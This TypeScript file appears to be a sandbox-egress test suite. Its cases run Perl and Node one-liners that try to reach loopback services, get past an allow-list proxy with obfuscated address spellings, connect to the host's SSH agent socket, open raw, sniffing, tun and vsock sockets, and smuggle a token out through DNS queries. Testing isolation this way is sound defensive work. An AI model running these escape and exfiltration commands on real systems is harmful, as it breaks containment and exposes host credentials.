/** Ways out: by address, by name, over sockets that are files and sockets that are names. */
import { type Case, looted, reached } from "../Case.ts"

const tcp = (host: string) =>
  `perl -e "$P"'use IO::Socket::INET; my $s=IO::Socket::INET->new(PeerAddr=>"${host}",PeerPort=>$ENV{PORT},Timeout=>3) or exit 1; get($s)'`
const unix = (path: string) =>
  `perl -e "$P"'socket(my $s,AF_UNIX,SOCK_STREAM,0) or exit 1; connect($s,pack_sockaddr_un(${path})) or exit 1; get($s)'`

/** The cases. */
export const cases: ReadonlyArray<Case> = [
  {
    id: "loopback",
    level: "os",
    why: "services of this machine",
    needs: ["perl"],
    command: tcp("127.0.0.1"),
    check: reached
  },
  {
    id: "loopback-name",
    level: "os",
    why: "the same by name",
    needs: ["perl"],
    command: tcp("localhost"),
    check: reached
  },
  {
    id: "loopback-other",
    level: "os",
    why: "the same by another of its addresses",
    needs: ["perl"],
    command: tcp("0.0.0.0"),
    check: reached
  },
  {
    id: "loopback-6",
    level: "os",
    why: "the same over IPv6",
    needs: ["perl"],
    command: `perl -e "$P"'socket(my $s,AF_INET6,SOCK_STREAM,6) or exit 1; connect($s,Socket::pack_sockaddr_in6($ENV{PORT},Socket::inet_pton(AF_INET6,"::1"))) or exit 1; get($s)'`,
    check: reached
  },
  {
    id: "address",
    level: "os",
    why: "the machine's address in its network: everything that is there",
    needs: ["perl"],
    command: tcp("$ENV{ADDRESS}"),
    check: reached
  },
  {
    id: "datagram",
    level: "os",
    why: "a datagram, as a question to a name server is",
    needs: ["perl"],
    command: `perl -e "$P"'socket(my $s,AF_INET,SOCK_DGRAM,0); send($s,"$TOKEN",0,pack_sockaddr_in($ENV{UDP},inet_aton($_))) for "127.0.0.1",$ENV{ADDRESS}; select(undef,undef,undef,0.3)'`,
    check: reached
  },
  {
    id: "node",
    level: "os",
    why: "a program that knows no proxy",
    needs: ["node"],
    command: `node -e 'const s=require("net").connect(+process.env.PORT,"127.0.0.1",()=>s.write(process.env.TOKEN+"\\n"));s.on("data",d=>require("fs").appendFileSync(process.env.WS+"/loot",d));s.on("error",()=>{})'`,
    check: reached
  },
  {
    id: "curl-variables",
    level: "os",
    why: "a program that is told to use no proxy",
    needs: ["perl"],
    command: `unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY all_proxy; NO_PROXY='*'; export NO_PROXY; ${tcp("127.0.0.1")}`,
    check: reached
  },
  {
    id: "bypass-proxy",
    level: "os",
    why: "around the proxy, when some domains are let through",
    spec: { egress: { _tag: "Allow", domains: ["example.org"] } },
    needs: ["perl"],
    command: `${tcp("127.0.0.1")}; ${tcp("$ENV{ADDRESS}")}`,
    check: reached
  },
  {
    id: "through-proxy",
    level: "os",
    why: "through the proxy, to what it shall not let through: by address, by name, by another writing of the address",
    spec: { egress: { _tag: "Allow", domains: ["example.org"] } },
    needs: ["node"],
    // The control has no proxy, and goes straight on.
    command: `cat > try.cjs <<'END'
const net = require("net")
const { PORT, TOKEN, WS, ADDRESS } = process.env
const proxy = process.env.HTTPS_PROXY || process.env.https_proxy || process.env.HTTP_PROXY || process.env.http_proxy
const at = proxy ? new URL(proxy) : undefined
const names = ["127.0.0.1", "localhost", "0x7f000001", "2130706433", "127.1", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "example.org.", "localhost.", "example.org@127.0.0.1", "127.0.0.1#example.org", ADDRESS]
const auth = at && at.username ? "Proxy-Authorization: Basic " + Buffer.from(decodeURIComponent(at.username) + ":" + decodeURIComponent(at.password)).toString("base64") + "\\r\\n" : ""
for (const name of names) for (const kind of ["connect", "get"]) {
  const s = at ? net.connect(+at.port, at.hostname) : net.connect(+PORT, "127.0.0.1")
  s.on("error", () => {}).setTimeout(2000, () => s.destroy())
  const there = name + ":" + PORT
  if (!at) s.write(TOKEN + "\\n")
  else if (kind === "get") s.write("GET http://" + there + "/" + TOKEN + " HTTP/1.1\\r\\nHost: example.org\\r\\n" + auth + "\\r\\n")
  else { s.write("CONNECT " + there + " HTTP/1.1\\r\\nHost: example.org\\r\\n" + auth + "\\r\\n"); s.once("data", () => s.write(TOKEN + "\\n")) }
}
END
node try.cjs`,
    check: reached
  },
  {
    id: "socket-file",
    level: "os",
    why: "a socket of the host's, as that of a key agent, of a container engine or of a desktop",
    needs: ["perl"],
    command: unix("$ENV{SOCKET}"),
    check: reached
  },
  {
    id: "socket-variable",
    level: "os",
    why: "the key agent that the host's environment names",
    needs: ["perl"],
    command: unix(`$ENV{SSH_AUTH_SOCK}||$ENV{SOCKET}`),
    check: looted
  },
  {
    id: "socket-abstract",
    level: "os",
    why: "a socket that is a name and no file, so that no mount hides it",
    needs: ["perl"],
    command: unix(`chr(0).$ENV{ABSTRACT}`),
    check: reached
  },
  {
    id: "listener",
    level: "os",
    why: "a service that the host's programs take for their own",
    needs: ["perl"],
    command: `perl -e "$P"'use IO::Socket::INET; my $l=IO::Socket::INET->new(LocalAddr=>"127.0.0.1",LocalPort=>0,Listen=>5) or exit 1; open(my $f,">","$WS/port"); print $f $l->sockport; close $f; if(fork==0){ alarm 4; while(my $c=$l->accept){ print $c "worked $TOKEN"."\\n"; close $c } } alarm 2; my $c=$l->accept; print $c "worked $TOKEN"."\\n"' & i=0; while ! test -s port && [ $i -lt 40 ]; do sleep 0.05; i=$((i+1)); done; cp port "$H/port" || echo "no way to tell" ; sleep 0.3; test -e asked || sleep 1`,
    setup: `(i=0; while ! test -s "$WS/port" && [ $i -lt 60 ]; do sleep 0.05; i=$((i+1)); done; sleep 0.1; perl -MIO::Socket::INET -e 'my $s=IO::Socket::INET->new(PeerAddr=>"127.0.0.1",PeerPort=>$ARGV[0],Timeout=>1) or exit; my $l=<$s>; open(my $f,">>",$ARGV[1]); print $f $l' "$(cat "$WS/port")" "$H/asked") > /dev/null 2>&1 < /dev/null &`,
    check: `grep -qs "worked $TOKEN" "$H/asked"`
  },
  {
    id: "interfaces",
    level: "os",
    why: "which networks the host is in",
    command: `cat /proc/net/dev > interfaces; cat /proc/net/route >> interfaces`,
    check: `[ "$(grep -c : /proc/net/dev)" -gt 1 ] && [ "$(grep -c : "$WS/interfaces")" -gt 1 ]`
  },
  {
    id: "raw",
    level: "os",
    why: "packets of one's own making in the host's network",
    needs: ["perl"],
    command: `perl -e "$P"'socket(my $s,AF_INET,SOCK_RAW,1) or exit 1; setsockopt($s,SOL_SOCKET,25,"lo"); send($s,pack("C2n3a*",8,0,0,1,1,$TOKEN),0,pack_sockaddr_in(0,inet_aton($ENV{ADDRESS}))) and worked()'`,
    check: `grep -q "worked $TOKEN" "$WS/loot"`
  },
  {
    id: "sniff",
    level: "os",
    why: "what others send over the host's network",
    needs: ["perl"],
    command: `perl -e "$P"'socket(my $s,17,3,unpack("S",pack("n",3))) or exit 1; worked() if -e "/sys/class/net/eth0" || do{open(my $f,"<","/proc/net/dev");my @l=<$f>;@l>3}'`,
    check: `grep -q "worked $TOKEN" "$WS/loot"`
  },
  {
    id: "tunnel",
    level: "os",
    why: "an interface of one's own",
    needs: ["perl"],
    command: `perl -e "$P"'open(my $f,"+<","/dev/net/tun") or exit 1; my $r=pack("a16Sx22","esc",0x1001); ioctl($f,0x400454ca,$r) and worked()'`,
    check: `grep -q "worked $TOKEN" "$WS/loot"`
  },
  {
    id: "machine-socket",
    level: "os",
    why: "the socket to the machine's own host (vsock)",
    needs: ["perl"],
    command: `perl -e "$P"'socket(my $s,40,1,0) and worked()'`,
    check: `grep -q "worked $TOKEN" "$WS/loot"`
  },
  {
    id: "name-server",
    level: "os",
    why: "a name server of the host's, which carries data in the questions it is asked",
    needs: ["perl"],
    command: `perl -e "$P"'socket(my $s,AF_INET,SOCK_DGRAM,0); my $q=pack("n6",1,256,1,0,0,0).pack("C/a* C/a* C",substr($TOKEN,0,40),"x",0).pack("n2",1,1); send($s,$q,0,pack_sockaddr_in($ENV{UDP},inet_aton("127.0.0.1"))); select(undef,undef,undef,0.3)'`,
    check: reached
  }
]
